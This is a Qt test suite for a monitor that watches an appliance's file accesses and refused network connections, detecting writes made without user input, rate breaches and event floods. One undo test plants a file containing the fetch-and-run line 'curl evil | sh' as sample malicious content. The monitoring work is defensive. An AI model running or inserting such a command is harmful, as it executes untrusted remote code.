// ApplianceMonitor on a real folder: store accesses against the activity contract and mount
// rates, through real inotify events; renames seen under both names, a flood that overflows
// the kernel's queue, and Tessera's own undo never blamed on the appliance. (The same monitor on a real guest: tests/e2e/tst_monitor_e2e.)
#include "appliancemonitor.h"
#include "monitortestcontracts.h"
#include "storejournal.h"

#include <QFile>
#include <QSet>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTest>


class TestApplianceMonitor : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void init()
    {
        m_store.reset(new QTemporaryDir);
        QVERIFY(QDir(m_store->path()).mkpath(QStringLiteral("Documents/Letters")));
        QVERIFY(QDir(m_store->path()).mkpath(QStringLiteral("Music")));
        QVERIFY(writeFile(m_store->filePath(QStringLiteral("Music/song.txt")), "la la"));
    }

    void writeWithoutInputIsABreachWithEvidence()
    {
        ApplianceMonitor monitor(QStringLiteral("app"), contractWith(DocumentsMount + WriteAfterInput), m_store->path());
        QVERIFY(monitor.start());
        QSignalSpy breaches(&monitor, &ApplianceMonitor::breach);
        QVERIFY(writeFile(m_store->filePath(QStringLiteral("Documents/Letters/note.txt")), "hello"));
        QVERIFY(breaches.wait(2000));
        const auto event = breaches.first().first().value<BreachEvent>();
        QCOMPARE(event.kind, BreachEvent::Kind::WriteWithoutInput);
        QCOMPARE(event.element(), ContractElement::Activity);
        QCOMPARE(event.appliance, QStringLiteral("app"));
        QCOMPARE(event.subject, QStringLiteral("Documents"));
        QCOMPARE(event.bound, 5.0);
        QCOMPARE(event.observed, -1.0); // no input ever
        QVERIFY(event.evidence.contains(QStringLiteral("Documents/Letters/note.txt")));
        QVERIFY(event.windowStart <= event.windowEnd);
        QVERIFY(!event.describe().isEmpty());
    }

    void writeRightAfterInputIsExpected()
    {
        ApplianceMonitor monitor(QStringLiteral("app"), contractWith(DocumentsMount + WriteAfterInput), m_store->path());
        QVERIFY(monitor.start());
        QSignalSpy breaches(&monitor, &ApplianceMonitor::breach);
        QSignalSpy seen(&monitor, &ApplianceMonitor::accessSeen);
        monitor.noteInput();
        QVERIFY(writeFile(m_store->filePath(QStringLiteral("Documents/note.txt")), "typed"));
        QVERIFY(seen.wait(2000));
        for (const QList<QVariant> &access : std::as_const(seen)) {
            QCOMPARE(access.at(1).toBool(), true);
            QCOMPARE(access.at(2).toBool(), true); // within the window
        }
        monitor.stop(); // raises anything pending at once
        QCOMPARE(breaches.count(), 0);
    }

    void readOfAReadOnlyMountWithoutInput()
    {
        ApplianceMonitor monitor(QStringLiteral("app"), contractWith(DocumentsMount + WriteAfterInput), m_store->path());
        QVERIFY(monitor.start());
        QSignalSpy breaches(&monitor, &ApplianceMonitor::breach);
        QFile song(m_store->filePath(QStringLiteral("Music/song.txt")));
        QVERIFY(song.open(QIODevice::ReadOnly));
        QCOMPARE(song.readAll(), QByteArray("la la"));
        QVERIFY(breaches.wait(2000));
        const auto event = breaches.first().first().value<BreachEvent>();
        QCOMPARE(event.kind, BreachEvent::Kind::ReadWithoutInput);
        QVERIFY(event.evidence.contains(QStringLiteral("Music/song.txt")));
    }

    void writesInNewFoldersAreSeen()
    {
        ApplianceMonitor monitor(QStringLiteral("app"), contractWith(DocumentsMount + WriteAfterInput), m_store->path());
        QVERIFY(monitor.start());
        QSignalSpy seen(&monitor, &ApplianceMonitor::accessSeen);
        QVERIFY(QDir(m_store->path()).mkpath(QStringLiteral("Documents/New")));
        QTRY_VERIFY_WITH_TIMEOUT(!seen.isEmpty(), 2000); // the folder's creation; now watched
        seen.clear();
        QVERIFY(writeFile(m_store->filePath(QStringLiteral("Documents/New/inner.txt")), "x"));
        QTRY_VERIFY_WITH_TIMEOUT(std::any_of(seen.cbegin(), seen.cend(), [](const QList<QVariant> &a) {
            return a.first().toString() == QLatin1String("Documents/New/inner.txt"); }), 2000);
    }

    void writingFasterThanTheMountRate()
    {
        ApplianceMonitor monitor(QStringLiteral("app"), contractWith(DocumentsMount), m_store->path());
        QVERIFY(monitor.start());
        QSignalSpy breaches(&monitor, &ApplianceMonitor::breach);
        QVERIFY(writeFile(m_store->filePath(QStringLiteral("Documents/big.bin")), QByteArray(256 * 1024, 'x')));
        QVERIFY(breaches.wait(3000));
        const auto event = breaches.first().first().value<BreachEvent>();
        QCOMPARE(event.kind, BreachEvent::Kind::MountWriteOverRate);
        QCOMPARE(event.subject, QStringLiteral("Documents"));
        QCOMPARE(event.bound, 16.0 * 1024);
        QVERIFY(event.observed >= 256.0 * 1024);
    }

    void repeatedBreachesAreCoalesced()
    {
        ApplianceMonitor monitor(QStringLiteral("app"), contractWith(DocumentsMount + WriteAfterInput), m_store->path());
        QVERIFY(monitor.start());
        QSignalSpy breaches(&monitor, &ApplianceMonitor::breach);
        QSignalSpy seen(&monitor, &ApplianceMonitor::accessSeen);
        for (int i = 0; i < 50; ++i)
            QVERIFY(writeFile(m_store->filePath(QStringLiteral("Documents/f%1.txt").arg(i)), "x"));
        QVERIFY(breaches.wait(2000));
        QTRY_VERIFY_WITH_TIMEOUT(std::any_of(seen.cbegin(), seen.cend(), [](const QList<QVariant> &a) {
            return a.first().toString() == QLatin1String("Documents/f49.txt"); }), 2000);
        monitor.stop();
        // One event for the first burst, one for the rest once stopped: never one per file.
        QVERIFY(breaches.count() <= 2);
        int items = 0;
        for (const QList<QVariant> &b : std::as_const(breaches)) {
            const auto event = b.first().value<BreachEvent>();
            items += int(event.evidence.size()) + event.evidenceOmitted;
            QVERIFY(event.evidence.size() <= BreachEvent::MaxEvidence);
        }
        QCOMPARE(items, 50);
    }

    void symlinksInTheStoreAreNotFollowed()
    {
        QTemporaryDir outside;
        QVERIFY(QDir(outside.path()).mkpath(QStringLiteral("secret")));
        QVERIFY(QFile::link(outside.filePath(QStringLiteral("secret")), m_store->filePath(QStringLiteral("Documents/link"))));
        ApplianceMonitor monitor(QStringLiteral("app"), contractWith(DocumentsMount + WriteAfterInput), m_store->path());
        QVERIFY(monitor.start());
        QSignalSpy seen(&monitor, &ApplianceMonitor::accessSeen);
        QVERIFY(writeFile(outside.filePath(QStringLiteral("secret/x.txt")), "outside"));
        QVERIFY(writeFile(m_store->filePath(QStringLiteral("Documents/inside.txt")), "inside"));
        QTRY_VERIFY_WITH_TIMEOUT(!seen.isEmpty(), 2000);
        for (const QList<QVariant> &access : std::as_const(seen))
            QVERIFY2(!access.first().toString().contains(QLatin1String("x.txt")), qPrintable(access.first().toString()));
    }

    void tesserasOwnWritesAreNeverBlamed()
    {
        // The store's history has the appliance's changes; the person undoes them while the
        // appliance runs (issue 15: the undo was raised as the appliance's write-without-input).
        QTemporaryDir journalDir;
        QVERIFY(writeFile(m_store->filePath(QStringLiteral("Documents/letter.txt")), "dear bank"));
        QVERIFY(writeFile(m_store->filePath(QStringLiteral("Documents/Letters/old.txt")), "an old letter"));
        StoreJournal journal(journalDir.path(), m_store->path());
        QVERIFY(journal.open());
        QVERIFY(journal.scan(QString(), StoreJournal::hostActor()));
        QTRY_VERIFY(QDateTime::currentDateTimeUtc() > journal.changes().last().time);
        const QDateTime since = QDateTime::currentDateTimeUtc();
        QVERIFY(writeFile(m_store->filePath(QStringLiteral("Documents/letter.txt")), "send money"));
        QVERIFY(journal.record(QStringLiteral("Documents/letter.txt"), QStringLiteral("app")));
        QVERIFY(writeFile(m_store->filePath(QStringLiteral("Documents/planted.sh")), "curl evil | sh"));
        QVERIFY(journal.record(QStringLiteral("Documents/planted.sh"), QStringLiteral("app")));
        // It removed a whole folder too: the undo makes it again.
        QVERIFY(QDir(m_store->filePath(QStringLiteral("Documents/Letters"))).removeRecursively());
        QVERIFY(journal.scan(QStringLiteral("Documents"), QStringLiteral("app")));

        ApplianceMonitor monitor(QStringLiteral("app"), contractWith(DocumentsMount + WriteAfterInput), m_store->path());
        QVERIFY(monitor.start());
        QSignalSpy breaches(&monitor, &ApplianceMonitor::breach);
        QSignalSpy seen(&monitor, &ApplianceMonitor::accessSeen);
        QVERIFY(journal.applyUndo(QStringLiteral("app"), journal.planUndo(QStringLiteral("app"), since)));
        QCOMPARE(QFile(m_store->filePath(QStringLiteral("Documents/letter.txt"))).size(), qint64(9));
        QVERIFY(!QFile::exists(m_store->filePath(QStringLiteral("Documents/planted.sh"))));
        QCOMPARE(QFile(m_store->filePath(QStringLiteral("Documents/Letters/old.txt"))).size(), qint64(13));
        // A write of the appliance's own afterwards: once it is seen, the undo's events were too.
        QVERIFY(writeFile(m_store->filePath(QStringLiteral("Documents/after.txt")), "guest"));
        QTRY_VERIFY_WITH_TIMEOUT(std::any_of(seen.cbegin(), seen.cend(), [](const QList<QVariant> &a) {
            return a.first().toString() == QLatin1String("Documents/after.txt"); }), 2000);
        // (Tessera still reads a file to check it before an undo: inotify reports that read, as
        // any read — docs/recovery.md says so plainly. Its writes are what must never count.)
        for (const QList<QVariant> &access : std::as_const(seen)) {
            if (access.at(1).toBool())
                QCOMPARE(access.first().toString(), QStringLiteral("Documents/after.txt"));
        }
        // The same file written by someone else right after Tessera is seen again.
        QVERIFY(writeFile(m_store->filePath(QStringLiteral("Documents/letter.txt")), "send money again"));
        QTRY_VERIFY_WITH_TIMEOUT(std::any_of(seen.cbegin(), seen.cend(), [](const QList<QVariant> &a) {
            return a.first().toString() == QLatin1String("Documents/letter.txt"); }), 2000);
        monitor.stop();
        QVERIFY(!breaches.isEmpty());
        for (const QList<QVariant> &b : std::as_const(breaches)) {
            const auto event = b.first().value<BreachEvent>();
            for (const QString &evidence : event.evidence)
                QVERIFY2(evidence == QLatin1String("Documents/after.txt") || evidence == QLatin1String("Documents/letter.txt"),
                         qPrintable(evidence));
        }
    }

    void aFloodOfEventsCannotHideAWrite()
    {
        ApplianceMonitor monitor(QStringLiteral("app"), contractWith(DocumentsMount + WriteAfterInput), m_store->path());
        QVERIFY(monitor.start());
        QSignalSpy seen(&monitor, &ApplianceMonitor::accessSeen);
        // Without returning to the event loop, more events than the kernel queues
        // (fs.inotify.max_queued_events, 16384 by default): it overflows and drops the rest.
        for (int round = 0; round < 100; ++round) {
            for (int i = 0; i < 100; ++i)
                QVERIFY(writeFile(m_store->filePath(QStringLiteral("Documents/flood%1").arg(i)), QByteArray::number(round % 2)));
        }
        QVERIFY(writeFile(m_store->filePath(QStringLiteral("Documents/hidden.txt")), "written under cover of the flood"));
        QTRY_VERIFY_WITH_TIMEOUT(std::any_of(seen.cbegin(), seen.cend(), [](const QList<QVariant> &a) {
            return a.first().toString() == QLatin1String("Documents/hidden.txt"); }), 10000);
    }

    void aRenameIsSeenUnderBothNames()
    {
        QVERIFY(writeFile(m_store->filePath(QStringLiteral("Documents/letter.txt")), "dear bank"));
        ApplianceMonitor monitor(QStringLiteral("app"), contractWith(DocumentsMount + WriteAfterInput), m_store->path());
        QVERIFY(monitor.start());
        QSignalSpy seen(&monitor, &ApplianceMonitor::accessSeen);
        QVERIFY(QFile::rename(m_store->filePath(QStringLiteral("Documents/letter.txt")), m_store->filePath(QStringLiteral("Documents/moved.txt"))));
        auto saw = [&seen](const QString &path) {
            return std::any_of(seen.cbegin(), seen.cend(), [&](const QList<QVariant> &a) { return a.first().toString() == path; });
        };
        QTRY_VERIFY_WITH_TIMEOUT(saw(QStringLiteral("Documents/letter.txt")) && saw(QStringLiteral("Documents/moved.txt")), 2000);
    }

    void refusedConnectionsFromTheGatewayLog()
    {
        const QString log = m_store->filePath(QStringLiteral("network.jsonl"));
        // An earlier session's refusal is not reported again.
        QVERIFY(writeFile(log, "{\"event\":\"denied\",\"host\":\"old.example\",\"port\":1,\"reason\":\"no rule\",\"time\":\"t0\"}" "\n"));
        ApplianceMonitor monitor(QStringLiteral("app"), contractWith(QString()), m_store->path());
        monitor.watchNetworkLog(log);
        QVERIFY(monitor.start());
        QSignalSpy breaches(&monitor, &ApplianceMonitor::breach);
        QFile append(log);
        QVERIFY(append.open(QIODevice::Append));
        append.write("{\"event\":\"allowed\",\"host\":\"127.0.0.1\",\"port\":8080,\"rule\":0,\"time\":\"t1\"}" "\n");
        // The gateway's UTC time, shown as the time of day here.
        const QString utc = QStringLiteral("2026-12-07T21:38:23.000Z");
        for (int port = 1; port <= ApplianceMonitor::DeniedBurstCount; ++port)
            append.write(QStringLiteral("{\"event\":\"denied\",\"host\":\"127.0.0.1\",\"port\":%1,\"reason\":\"no rule allows it\",\"time\":\"%2\"}")
                             .arg(port).arg(utc).toUtf8() + '\n');
        append.write("{\"event\":\"denied\",\"host\":\"127.0.0.1\",\"port\":"); // still being written
        append.close();
        // One refused destination and the burst at once; the other refusals wait for the summary.
        QTRY_VERIFY_WITH_TIMEOUT(breaches.count() >= 2, 5000);
        monitor.stop(); // lets the summary out now
        QSet<QString> refused;
        int bursts = 0, denied = 0;
        for (const QList<QVariant> &b : std::as_const(breaches)) {
            const auto event = b.first().value<BreachEvent>();
            QCOMPARE(event.element(), ContractElement::NetworkRules);
            if (event.kind == BreachEvent::Kind::DeniedBurst) {
                ++bursts;
                QCOMPARE(event.observed, double(ApplianceMonitor::DeniedBurstCount));
            } else {
                denied += 1 + event.folded;
                QVERIFY(event.evidence.first().contains(QLatin1String("no rule allows it")));
                QVERIFY2(!event.evidence.first().contains(utc) && event.evidence.first().contains(QStringLiteral(":38:23")),
                         qPrintable(event.evidence.first()));
                for (const QString &item : std::as_const(event.evidence))
                    refused.insert(item.section(QLatin1Char(' '), 0, 0));
            }
        }
        QCOMPARE(bursts, 1);
        QCOMPARE(denied, ApplianceMonitor::DeniedBurstCount); // every refusal accounted for
        QCOMPARE(refused.size(), ApplianceMonitor::DeniedBurstCount);
        QVERIFY(!refused.contains(QStringLiteral("old.example:1")));
        QVERIFY(refused.contains(QStringLiteral("127.0.0.1:1")));
    }

    void aFloodOfRefusedDestinationsIsFoldedNotLost()
    {
        // A guest trying a thousand destinations within a second: each is its own subject, and
        // used to be its own breach (a critical notification and a synced log line each).
        const QString log = m_store->filePath(QStringLiteral("network.jsonl"));
        constexpr int Destinations = 1000;
        QByteArray lines;
        for (int port = 1; port <= Destinations; ++port)
            lines += QStringLiteral("{\"event\":\"denied\",\"host\":\"127.0.0.%1\",\"port\":%2,\"reason\":\"no rule allows it\",\"time\":\"t\"}")
                         .arg(1 + port % 200).arg(port).toUtf8() + '\n';
        QVERIFY(writeFile(log, QByteArray()));
        constexpr int WindowMs = 1500;
        ApplianceMonitor monitor(QStringLiteral("app"), contractWith(QString()), m_store->path(), nullptr, WindowMs);
        monitor.watchNetworkLog(log);
        QVERIFY(monitor.start());
        QSignalSpy breaches(&monitor, &ApplianceMonitor::breach);
        QFile append(log);
        QVERIFY(append.open(QIODevice::Append));
        append.write(lines);
        append.close();
        auto ofKind = [&](BreachEvent::Kind kind) {
            QList<BreachEvent> events;
            for (const QList<QVariant> &b : std::as_const(breaches)) {
                if (b.first().value<BreachEvent>().kind == kind)
                    events.append(b.first().value<BreachEvent>());
            }
            return events;
        };
        // At once: one refused destination (and the burst), not a thousand.
        QTRY_VERIFY_WITH_TIMEOUT(!ofKind(BreachEvent::Kind::ConnectionDenied).isEmpty(), 5000);
        QCOMPARE(ofKind(BreachEvent::Kind::ConnectionDenied).size(), 1);
        QCOMPARE(ofKind(BreachEvent::Kind::ConnectionDenied).first().folded, 0);
        // When the window ends, one summary for the rest, by itself.
        QTRY_COMPARE_WITH_TIMEOUT(ofKind(BreachEvent::Kind::ConnectionDenied).size(), 2, 4 * WindowMs);
        const BreachEvent summary = ofKind(BreachEvent::Kind::ConnectionDenied).at(1);
        QCOMPARE(summary.folded + 1, Destinations - 1);
        QCOMPARE(summary.foldedSubjects, Destinations - 2);
        QVERIFY(summary.evidence.size() <= BreachEvent::MaxEvidence);
        QCOMPARE(summary.evidence.size() + summary.evidenceOmitted, Destinations - 1);
        QVERIFY2(summary.describe().contains(QStringLiteral("%1 more refused destination").arg(Destinations - 2)),
                 qPrintable(summary.describe()));
        monitor.stop();
        QCOMPARE(ofKind(BreachEvent::Kind::ConnectionDenied).size(), 2);
        QCOMPARE(ofKind(BreachEvent::Kind::DeniedBurst).size(), 1);
        QVERIFY(breaches.count() <= 3);
    }

private:
    std::unique_ptr<QTemporaryDir> m_store;
};

QTEST_GUILESS_MAIN(TestApplianceMonitor)
#include "tst_appliancemonitor.moc"
